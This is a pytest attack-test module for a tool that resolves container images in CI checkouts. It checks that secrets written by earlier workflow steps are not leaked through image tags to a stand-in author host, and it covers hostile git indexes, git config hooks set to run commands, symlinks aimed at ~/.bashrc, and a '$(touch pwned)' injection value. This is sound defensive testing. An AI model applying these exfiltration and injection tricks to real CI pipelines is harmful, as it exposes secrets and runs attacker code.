"""What lies in a checkout, attacked: files that git does not have, a hostile `.git`, and links in the way of reports.

Whoever opens a pull request writes every committed file; steps before crreg write the rest, secrets among them.
"""

import json
import os
import string
import struct
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from sandbox.authority import Authority
from sandbox.checkout import commit, git
from sandbox.internet import Internet
from sandbox.serving import Handler, Server
from tests.attacks.measured import Attempt, run_action, run_command, write_repository

pytestmark = pytest.mark.attack

AUTHORS = "author.example"
"""The host of whoever opened the pull request."""
SECRET = "sk-live-51Hx-correct-horse"
DEVCONTAINER = ".devcontainer/devcontainer.json"
COMPOSE = '{"dockerComposeFile": "../compose.yml", "service": "app"}'
SPENDING = f"services: {{app: {{image: '{AUTHORS}/x:${{API_KEY}}'}}}}\n"
RULES = ("unresolved-image", "invalid-configuration")


class _Nothing(Handler):
    """A registry that lets everybody in and has nothing."""

    def answer(self) -> None:
        if "/manifests/" in self.path:
            self.respond(404, b'{"errors": [{"code": "MANIFEST_UNKNOWN"}]}')
        else:
            self.respond(200, b"{}")


class Scene:
    """A pull request's checkout, and what its author's host was asked."""

    def __init__(self, folder: Path, internet: Internet) -> None:
        self.folder = folder
        self.internet = internet

    def commit(self, **files: str | bytes) -> None:
        """Commit files, `/` in their names."""
        commit(write_repository(self.folder, files))

    def write(self, name: str, text: str) -> None:
        """Write a file as a step before does."""
        write_repository(self.folder, {name: text})

    def check(self, *, action: bool = True, **environment: str) -> Attempt:
        """Check the folder in a workflow, by the action or the command."""
        variables = {**self.internet.environment(), "CRREG_TIMEOUT": "10", **environment}
        if action:
            # The report goes to a file, too.
            attempt = run_action(self.folder, **{"INPUT_REPORT-FILE": "report.json"}, **variables)
        else:
            variables = {"GITHUB_ACTIONS": "true", "GITHUB_API_URL": "http://127.0.0.1:9", **variables}
            attempt = run_command(self.folder, "check", "--repository", "acme/app", **variables)
        assert attempt.within_limits, attempt.cost
        return attempt

    def told(self, attempt: Attempt) -> str:
        """All that crreg wrote, and all that the author's host saw."""
        report = self.folder / "report.json"
        written = report.read_text() if report.is_file() else ""
        asked = " ".join(f"{request.method} {request.path}" for request in self.internet.requests)
        told = f"{attempt.output} {attempt.errors} {attempt.summary} {attempt.outputs} {written} {asked}"
        return " ".join(told.split())

    def withheld(self, attempt: Attempt) -> bool:
        """Whether no part of the secret got out."""
        told = self.told(attempt)
        # A table may break a long word into lines.
        told = told.replace(" ", "")
        return not any(SECRET[start : start + 8] in told for start in range(len(SECRET) - 7))


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    folder = tmp_path / "checkout"
    folder.mkdir()
    authority = Authority(tmp_path / "authority")
    with Server(_Nothing) as registry, Internet(authority) as internet:
        internet.add(AUTHORS, registry.url)
        yield Scene(folder, internet)


def asked(scene: Scene) -> list[str]:
    return [request.path for request in scene.internet.requests if "/manifests/" in request.path]


def test_the_author_s_host_sees_what_is_committed(scene: Scene) -> None:
    """Without this the other tests would prove nothing."""
    scene.commit(**{DEVCONTAINER: COMPOSE, "compose.yml": SPENDING, ".env": "API_KEY=public\n"})

    scene.check()

    assert asked(scene)
    assert set(asked(scene)) == {"/v2/x/manifests/public"}


@pytest.mark.parametrize(
    "files",
    [
        {"compose.yml": SPENDING, ".env": ""},
        {
            "compose.yml": "include: [{path: inner.yml, env_file: secrets.env}]\n",
            "inner.yml": SPENDING,
            "secrets.env": "",
        },
        {"compose.yml": "include: [sub/inner.yml]\n", "sub/inner.yml": SPENDING, "sub/.env": ""},
        {
            "compose.yml": "services: {app: {build: {context: ., args: [API_KEY]}}}\n",
            "Dockerfile": f"ARG API_KEY\nFROM {AUTHORS}/x:$API_KEY\n",
            ".env": "",
        },
    ],
    ids=["beside the Compose file", "named by an include", "beside an include", "as an argument of a build"],
)
def test_variables_that_an_earlier_step_wrote_go_nowhere(scene: Scene, files: Mapping[str, str]) -> None:
    secret = next(name for name, text in files.items() if not text)
    scene.commit(**{DEVCONTAINER: COMPOSE, **{name: text for name, text in files.items() if text}})
    scene.write(secret, f"API_KEY={SECRET}\n")

    attempt = scene.check()

    assert (asked(scene), scene.withheld(attempt)) == ([], True)
    assert "not committed" in scene.told(attempt)


@pytest.mark.parametrize("action", [True, False])
def test_variables_that_an_earlier_step_changed_go_nowhere(scene: Scene, *, action: bool) -> None:
    scene.commit(**{DEVCONTAINER: COMPOSE, "compose.yml": SPENDING, ".env": "API_KEY=public\n"})
    scene.write(".env", f"API_KEY={SECRET}\n")

    attempt = scene.check(action=action)

    assert (asked(scene), scene.withheld(attempt)) == ([], True)
    assert "differs from the committed file" in scene.told(attempt)


def test_a_default_is_not_taken_for_what_a_changed_file_says(scene: Scene) -> None:
    compose = f"services: {{app: {{image: '{AUTHORS}/x:${{API_KEY:-1}}'}}}}\n"
    scene.commit(**{DEVCONTAINER: COMPOSE, "compose.yml": compose, ".env": "API_KEY=public\n"})
    scene.write(".env", "")

    scene.check()

    assert asked(scene) == []


def test_a_link_that_was_committed_leads_to_no_file_of_an_earlier_step(scene: Scene) -> None:
    (scene.folder / "app").mkdir()
    (scene.folder / "app" / ".env").symlink_to("../secrets.txt")
    scene.commit(
        **{
            DEVCONTAINER: COMPOSE.replace("../compose.yml", "../app/compose.yml"),
            "app/compose.yml": SPENDING,
        }
    )
    scene.write("secrets.txt", f"API_KEY={SECRET}\n")

    attempt = scene.check()

    assert (asked(scene), scene.withheld(attempt)) == ([], True)


UNQUOTED = {
    "devcontainer": (DEVCONTAINER, f'{{"image": "{AUTHORS}/x:{SECRET}"}}'),
    "Dockerfile": ("Dockerfile", f"{SECRET}\nFROM {AUTHORS}/{SECRET}\n"),
    "Compose": (
        "compose.yml",
        f"services: {{app: {{image: '{AUTHORS}/x:{SECRET}'}}}}\n{SECRET}: {SECRET}: 1\n",
    ),
    "override": ("docker-compose.override.yml", f"services: {{app: {{image: '{AUTHORS}/x:{SECRET}'}}}}\n"),
    "feature": (
        ".devcontainer/own/devcontainer-feature.json",
        f'{{"dependsOn": {{"{AUTHORS}/{SECRET}": {{}}}}}}',
    ),
}


@pytest.mark.parametrize(
    ("kind", "was_committed"),
    [*((kind, False) for kind in UNQUOTED), ("Dockerfile", True), ("Compose", True)],
)
def test_no_file_of_an_earlier_step_names_an_image_or_is_quoted(
    scene: Scene, kind: str, *, was_committed: bool
) -> None:
    name, text = UNQUOTED[kind]
    files = {
        ".devcontainer/build/devcontainer.json": '{"build": {"dockerfile": "../../Dockerfile"}}',
        ".devcontainer/compose/devcontainer.json": COMPOSE.replace("../", "../../"),
        ".devcontainer/default/devcontainer.json": '{"dockerComposeFile": [], "service": "app"}',
        ".devcontainer/feature/devcontainer.json": '{"image": "debian", "features": {"../own": {}}}',
        "docker-compose.yml": "services: {app: {image: debian}}\n",
    }
    if was_committed:
        files[name] = "{}"
    scene.commit(**files)
    scene.write(name, text)

    attempt = scene.check()

    assert (asked(scene), scene.withheld(attempt)) == ([], True)


def test_a_path_to_a_file_of_credentials_quotes_none_of_it(scene: Scene) -> None:
    """Even one that is committed, or that lies where nobody can tell: a first word is no instruction."""
    files = {
        DEVCONTAINER: '{"build": {"dockerfile": "../credentials"}}',
        ".devcontainer/2/devcontainer.json": '{"dockerComposeFile": "../../credentials", "service": "a"}',
        "credentials": f"{SECRET}\nkey: *{SECRET}\n",
    }
    write_repository(scene.folder, files)

    assert scene.withheld(scene.check())


def test_without_an_index_no_variable_is_known(scene: Scene) -> None:
    files = {DEVCONTAINER: COMPOSE, "compose.yml": SPENDING, ".env": f"API_KEY={SECRET}\n"}
    write_repository(scene.folder, files)

    attempt = scene.check()

    assert (asked(scene), scene.withheld(attempt)) == ([], True)
    assert "the folder is not a git checkout" in scene.told(attempt)


def _index(entries: bytes, count: int) -> bytes:
    """An index without a checksum, as index.skipHash has it."""
    return struct.pack(">4sII", b"DIRC", 4, count) + entries + bytes(20)


HOSTILE_INDEXES: dict[str, Callable[[bytes], bytes]] = {
    "truncated": lambda content: content[: len(content) // 2],
    "checksum": lambda content: content[:-1] + bytes([content[-1] ^ 1]),
    "count": lambda content: content[:8] + b"\xff\xff\xff\xff" + content[12:],
    # A long path of which each entry keeps all but a byte: what is compressed must not be kept expanded.
    "deep": lambda _: _index(
        b"".join(
            bytes(62)[:60]
            + struct.pack(">H", 4004)
            + (b"\0" if n == 0 else b"\x04")
            + b"x" * (4000 if n == 0 else 0)
            + b"%04d" % n
            + b"\0"
            for n in range(9999)
        ),
        9999,
    ),
    "numbers": lambda _: _index(bytes(60) + b"\0\x05" + b"\xff" * 64, 1),
    "extension": lambda content: content[:-20] + b"TREE\x7f\xff\xff\xff" + bytes(20),
    "zeros": lambda _: bytes(100_000_000),
    "empty": lambda _: b"",
}


@pytest.mark.parametrize("kind", HOSTILE_INDEXES)
def test_a_hostile_index_costs_little_and_proves_nothing(scene: Scene, kind: str) -> None:
    scene.commit(**{DEVCONTAINER: COMPOSE, "compose.yml": SPENDING})
    scene.write(".env", f"API_KEY={SECRET}\n")
    index = scene.folder / ".git" / "index"
    index.write_bytes(HOSTILE_INDEXES[kind](index.read_bytes()))

    attempt = scene.check()

    assert (asked(scene), scene.withheld(attempt)) == ([], True)
    assert attempt.code != 3 or "unexpected" not in attempt.output
    assert "Traceback" not in scene.told(attempt)


@pytest.mark.parametrize("shape", ["gitdir", "commondir", "link", "fifo", "submodule"])
def test_a_git_that_leads_elsewhere_makes_nothing_committed(scene: Scene, shape: str) -> None:
    """An author's own repository, wherever `.git` leads to it, does not have the content that only a step wrote."""
    scene.commit(**{DEVCONTAINER: COMPOSE, "compose.yml": SPENDING})
    elsewhere = scene.folder.parent / "elsewhere"
    elsewhere.mkdir()
    commit(
        write_repository(
            elsewhere, {DEVCONTAINER: COMPOSE, "compose.yml": SPENDING, ".env": "API_KEY=guess\n"}
        )
    )
    scene.write(".env", f"API_KEY={SECRET}\n")
    own = scene.folder / ".git"
    if shape == "commondir":
        (own / "commondir").write_text("../../elsewhere/.git\n")
    elif shape == "submodule":
        folder = scene.folder / "sub"
        folder.mkdir()
        digest = git(scene.folder, "rev-parse", "HEAD").decode().strip()
        git(scene.folder, "update-index", "--add", "--cacheinfo", f"160000,{digest},sub")
        scene.write("sub/.env", f"API_KEY={SECRET}\n")
        scene.write("sub/compose.yml", SPENDING)
        scene.commit(**{DEVCONTAINER: COMPOSE.replace("compose.yml", "sub/compose.yml")})
    else:
        own.rename(scene.folder.parent / "moved")
        if shape == "gitdir":
            own.write_text("gitdir: ../elsewhere/.git\n")
        elif shape == "link":
            own.symlink_to("../elsewhere/.git")
        else:
            os.mkfifo(own)

    attempt = scene.check()

    assert (asked(scene), scene.withheld(attempt)) == ([], True)


def test_nothing_that_a_checkout_configures_is_run(scene: Scene) -> None:
    marker = scene.folder.parent / "ran"
    scene.commit(
        **{DEVCONTAINER: COMPOSE, "compose.yml": SPENDING, ".gitattributes": "* filter=own diff=own\n"}
    )
    hook = f"touch {marker}"
    for name in ("core.fsmonitor", "filter.own.clean", "filter.own.process", "diff.external", "core.pager"):
        git(scene.folder, "config", name, hook)
    scene.write(".git/hooks/post-index-change", f"#!/bin/sh\n{hook}\n")
    (scene.folder / ".git" / "hooks" / "post-index-change").chmod(0o755)
    scene.write(".env", f"API_KEY={SECRET}\n")

    scene.check()

    assert not marker.exists()


def test_a_configuration_that_is_a_link_has_no_other_file_quoted(scene: Scene) -> None:
    (scene.folder / ".github").mkdir()
    (scene.folder / ".github" / "crreg.yml").symlink_to("../made-up.yml")
    scene.commit(**{DEVCONTAINER: '{"image": "debian"}'})
    scene.write("made-up.yml", f"{SECRET}: {SECRET}\n")

    attempt = scene.check()

    assert (attempt.code, scene.withheld(attempt)) == (2, True)


def test_a_configuration_that_the_workflow_wrote_is_read(scene: Scene) -> None:
    scene.commit(**{DEVCONTAINER: '{"image": "debian"}'})
    scene.write(
        ".github/crreg.yml", f"registries: {{OWN: {{server: {AUTHORS}, images: ['{AUTHORS}/x:1']}}}}\n"
    )

    scene.check()

    assert set(asked(scene)) == {"/v2/x/manifests/1"}


VICTIM = "# the runner's own\n"


@pytest.mark.parametrize(
    ("through", "reached"),
    [
        ("file", "as it is"),
        ("file", "by a link"),
        ("folder", "by a link"),
        ("git", "by a link"),
        ("folder", "by --path"),
        ("file", "in part"),
    ],
)
def test_a_link_of_a_checkout_leads_no_report_out_of_it(tmp_path: Path, through: str, reached: str) -> None:
    real = tmp_path / "mnt" / "checkout"
    (tmp_path / "_work").symlink_to(tmp_path / "mnt")
    home = tmp_path / "home"
    home.mkdir()
    victim = home / ".bashrc"
    victim.write_text(VICTIM)
    commit(write_repository(real, {DEVCONTAINER: '{"image": "X$(touch pwned)"}', "app/file": ""}))
    (real / "report").symlink_to(victim)
    (real / "out").symlink_to(home)
    (real / "own").symlink_to(".git")
    output = {"file": "report", "folder": "out/.bashrc", "git": "own/config"}[through]
    before = (real / ".git" / "config").read_bytes()
    variables = {"CRREG_TIMEOUT": "3", "GITHUB_API_URL": "http://127.0.0.1:9"}
    arguments: list[str] = ["check", "--repository", "acme/app", "--output", output]
    if reached == "by a link":
        variables["GITHUB_WORKSPACE"] = str(tmp_path / "_work" / "checkout")
    elif reached == "by --path":
        arguments[-1] = str(tmp_path / "_work" / "checkout" / output)
        arguments += ["--path", str(real)]
    elif reached == "in part":
        arguments += ["--path", "app"]

    attempt = run_command(real, *arguments, **variables)

    assert attempt.code == 2
    assert "can't be written" in attempt.errors
    assert [path.name for path in home.iterdir()] == [".bashrc"]
    assert (victim.read_text(), (real / ".git" / "config").read_bytes()) == (VICTIM, before)


@pytest.mark.parametrize(
    ("name", "path"),
    [
        *(("INPUT_REPORT-FILE", path) for path in ("link", "out/new", "../new", "own/config", "pipe")),
        *(("INPUT_SARIF-FILE", path) for path in ("link", ".git/config", "folder")),
    ],
)
def test_the_action_writes_its_reports_in_the_checkout_alone(tmp_path: Path, name: str, path: str) -> None:
    folder, outside = tmp_path / "checkout", tmp_path / "outside"
    outside.mkdir()
    (outside / "file").write_text(VICTIM)
    commit(write_repository(folder, {DEVCONTAINER: '{"image": "debian"}', "folder/file": ""}))
    (folder / "link").symlink_to(outside / "file")
    (folder / "out").symlink_to(outside)
    (folder / "own").symlink_to(".git")
    os.mkfifo(folder / "pipe")
    before = (folder / ".git" / "config").read_bytes()

    attempt = run_action(folder, **{name: path, "CRREG_TIMEOUT": "3"})

    assert attempt.code == 2
    assert attempt.seconds < 15, attempt.cost
    assert {file.name: file.read_text() for file in outside.iterdir()} == {"file": VICTIM}
    assert sorted(file.name for file in tmp_path.iterdir()) == ["checkout", "outside"]
    assert (folder / ".git" / "config").read_bytes() == before


def test_ignore_rules_of_many_brackets_are_compared_in_time(tmp_path: Path) -> None:
    members = "".join(f"{letter}-{letter}" for letter in string.ascii_letters) * 6
    folder = "/".join(["~" * 250] * 14)
    config = {"dockerComposeFile": f"../{folder}/c.yml", "service": "s"}
    write_repository(
        tmp_path,
        {
            ".gitignore": f"*[{members[:990]}]*[0-9]z\n" * 200,
            ".devcontainer/devcontainer.json": json.dumps(config),
            f"{folder}/c.yml": "services: {s: {image: 'localhost:1/a'}}\n",
        },
    )
    git(tmp_path, "init", "--quiet")

    attempt = run_command(tmp_path, "images", "--format", "json")

    assert attempt.seconds < 10, attempt.cost
    assert [image["reference"] for image in json.loads(attempt.output)["images"]] == ["localhost:1/a"]


def linked(folder: Path, links: int, names: int) -> None:
    """A chain of links, each of which goes through so many names, for `.devcontainer/*` to lead to."""
    write_repository(
        folder, {"a/x": "{}", ".devcontainer/healthy/devcontainer.json": '{"image": "localhost:1/a"}'}
    )
    for number in range(links):
        target = f"link{number + 1}" if number + 1 < links else "a/x"
        (folder / f"link{number}").symlink_to("a/../" * (names // 2) + target)


@pytest.mark.parametrize("committed", [False, True])
def test_a_long_chain_of_links_is_one_finding(tmp_path: Path, *, committed: bool) -> None:
    linked(tmp_path, 1_500, 0)
    (tmp_path / ".devcontainer" / "devcontainer.json").symlink_to("../link0")
    if committed:
        commit(tmp_path)

    attempt = run_action(tmp_path, CRREG_TIMEOUT="5", **{"INPUT_REPORT-FILE": "report.json"})

    report = json.loads((tmp_path / "report.json").read_text())
    [message] = [each["message"] for each in report["findings"] if each["rule"] == "unresolved-image"]
    assert ".devcontainer/devcontainer.json is reached by too many symbolic links" in message
    assert "localhost:1/a" in {image["reference"] for image in report["images"]}
    assert attempt.within_limits, attempt.cost


@pytest.mark.parametrize("is_folder", [False, True])
def test_many_ways_through_many_links_are_cut_short(tmp_path: Path, *, is_folder: bool) -> None:
    linked(tmp_path, 39, 1_600)
    for number in range(5_000 if is_folder else 300):
        place = tmp_path / ".devcontainer" / f"d{number}"
        if is_folder:
            place.symlink_to("../link0")
        else:
            place.mkdir()
            (place / "devcontainer.json").symlink_to("../../link0")

    attempt = run_command(tmp_path, "images", "--format", "json")

    assert attempt.within_limits, attempt.cost
    assert "localhost:1/a" in {image["reference"] for image in json.loads(attempt.output)["images"]}
